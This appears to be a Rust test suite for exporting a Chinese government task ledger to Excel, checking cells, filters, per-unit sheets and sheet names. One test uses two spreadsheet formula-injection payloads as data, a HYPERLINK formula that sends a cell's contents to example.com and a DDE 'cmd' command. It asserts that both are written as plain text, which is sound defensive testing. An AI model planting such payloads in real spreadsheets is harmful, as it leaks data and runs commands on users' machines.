//! The Excel 台账 read back with calamine equals the parsed tasks of seeds 003 and 004:
//! title, filter line, the header row, and one row per task with the same cells as the
//! CSV, including a text with a comma, quotes and a newline.

use crate::export_support;

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use duban::export::worker_protocol::{answer, Export, ExportRequest, XLSX_MIME};
use duban::export::xlsx::{ledger_xlsx, HEADER_ROW};
use duban::export::{Ledger, COLUMNS};
use duban::filter::Filter;
use export_support::*;

/// The sheet names and the cells of the first sheet as text.
fn read_back(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>, Vec<Vec<Data>>) {
    assert_eq!(&bytes[..2], b"PK", "an .xlsx is a zip file");
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let names = book.sheet_names();
    let range = book.worksheet_range(&names[0]).unwrap();
    assert_eq!(range.start(), Some((0, 0)));
    let raw: Vec<Vec<Data>> = range.rows().map(<[Data]>::to_vec).collect();
    let text = raw
        .iter()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    (names, text, raw)
}

fn check(seed: &Seed, ledger: &Ledger, expected: &[[String; 11]]) {
    let bytes = ledger_xlsx(ledger).unwrap();
    let (names, cells, raw) = read_back(&bytes);
    assert_eq!(names, ["任务台账"]);
    assert_eq!(cells[0][0], ledger.title);
    assert_eq!(
        cells[1][0],
        format!(
            "筛选：{}　共 {} 项任务　导出日期：2026-11-22",
            ledger.filter,
            expected.len()
        )
    );
    let header = HEADER_ROW as usize;
    assert_eq!(cells[header], COLUMNS);
    let data = &cells[header + 1..];
    assert_eq!(data.len(), expected.len());
    for (got, want) in data.iter().zip(expected) {
        assert_eq!(got.as_slice(), want.as_slice());
    }
    // 序号 is a number, so that Excel sorts it as one.
    for (k, row) in raw[header + 1..].iter().enumerate() {
        assert_eq!(row[0], Data::Float((k + 1) as f64));
    }
    let _ = seed;
}

#[test]
fn seed_003_all_tasks() {
    let seed = seed(SEED_003);
    let ledger = ledger(&seed, &Filter::default());
    assert!(
        ledger.title.contains("2021年政府工作报告目标任务责任分解"),
        "{}",
        ledger.title
    );
    assert_eq!(ledger.filter, "全部任务");
    let expected = expected_rows(&seed.outline, all);
    assert_eq!(expected.len(), seed.index.task_count());
    check(&seed, &ledger, &expected);
}

#[test]
fn seed_004_with_a_tricky_text_and_note() {
    let seed = seed(SEED_004);
    let ledger = ledger(&seed, &Filter::default());
    let expected = expected_rows(&seed.outline, all);
    assert_eq!(expected[0][3], TRICKY_TEXT);
    assert_eq!(expected[0][10], TRICKY_NOTE);
    check(&seed, &ledger, &expected);
}

#[test]
fn seed_004_filtered_by_unit() {
    let seed = seed(SEED_004);
    let key = "区发改局";
    let ledger = ledger(&seed, &unit_filter(key));
    let has = |keys: &[String]| keys.iter().any(|k| k == key);
    let expected = expected_rows(&seed.outline, |lead, coop| has(lead) || has(coop));
    assert!(expected.len() > 3, "004 has tasks for {key}");
    check(&seed, &ledger, &expected);
}

#[test]
fn the_worker_answers_a_request_with_the_same_workbook() {
    let seed = seed(SEED_004);
    let ledger = ledger(&seed, &Filter::default());
    let request = serde_json::to_string(&ExportRequest {
        id: 7,
        export: Export::LedgerXlsx(ledger.clone()),
    })
    .unwrap();
    let (id, result) = answer(&request);
    assert_eq!(id, 7);
    let file = result.unwrap();
    assert_eq!((file.mime, file.ext), (XLSX_MIME, "xlsx"));
    let (_, cells, _) = read_back(&file.bytes);
    assert_eq!(cells[HEADER_ROW as usize + 1][3], TRICKY_TEXT);

    let (id, result) = answer("{not json");
    assert_eq!(id, 0);
    assert!(result.unwrap_err().starts_with("导出请求无法读取"));
}

#[test]
fn a_text_that_looks_like_a_formula_is_written_as_a_string_not_a_formula() {
    let ledger = formula_ledger();
    let bytes = ledger_xlsx(&ledger).unwrap();
    let (_, _, raw) = read_back(&bytes);
    let first = &raw[HEADER_ROW as usize + 1];
    assert_eq!(
        first[3],
        Data::String("=HYPERLINK(\"http://example.com/?d=\"&A1,\"点击查看\")".to_owned())
    );
    assert_eq!(first[10], Data::String("=cmd|' /C calc'!A0".to_owned()));
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let formulas = book.worksheet_formula("任务台账").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell holds a formula"
    );
}

#[test]
fn by_unit_a_sheet_per_unit_with_its_lead_tasks_then_its_cooperating_ones() {
    use duban::export::xlsx::{sheet_name, units_xlsx};
    use duban::export::{UnitLedger, UNIT_COLUMNS};
    let seed = seed(SEED_003);
    let filter = Filter::default();
    let matches = seed.index.apply(&filter, &|_| false);
    let book = UnitLedger::of_view(&seed.index, &filter, &matches, "2026-11-22", mark_of);
    let bytes = units_xlsx(&book).unwrap();
    let mut wb: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let names = wb.sheet_names();
    assert_eq!(names.len(), book.units.len());
    for (name, sheet) in names.iter().zip(&book.units) {
        assert_eq!(*name, sheet_name(&sheet.unit, &[]));
        let range = wb.worksheet_range(name).unwrap();
        let cells: Vec<Vec<String>> = range
            .rows()
            .map(|r| r.iter().map(|c| c.to_string()).collect())
            .collect();
        assert!(cells[0][0].contains(&sheet.unit));
        assert_eq!(cells[HEADER_ROW as usize], UNIT_COLUMNS);
        let data = &cells[HEADER_ROW as usize + 1..];
        assert_eq!(data.len(), sheet.lead.len() + sheet.coop.len());
        let want: Vec<(String, String, String)> = sheet
            .lead
            .iter()
            .map(|r| ("牵头", r))
            .chain(sheet.coop.iter().map(|r| ("配合", r)))
            .map(|(role, r)| (role.to_owned(), r.number.clone(), r.text.clone()))
            .collect();
        let got: Vec<(String, String, String)> = data
            .iter()
            .map(|r| (r[0].clone(), r[2].clone(), r[3].clone()))
            .collect();
        assert_eq!(got, want, "{name}");
    }
    // Names Excel accepts: no []:*?/\, at most 31 chars, none twice.
    assert_eq!(
        sheet_name("市委办[市府办]/机要局", &[]),
        "市委办_市府办__机要局"
    );
    let long = "长".repeat(40);
    assert_eq!(sheet_name(&long, &[]).chars().count(), 31);
    let taken = vec![sheet_name(&long, &[])];
    let second = sheet_name(&long, &taken);
    assert!(
        second.ends_with("（2）") && second.chars().count() == 31,
        "{second}"
    );
}
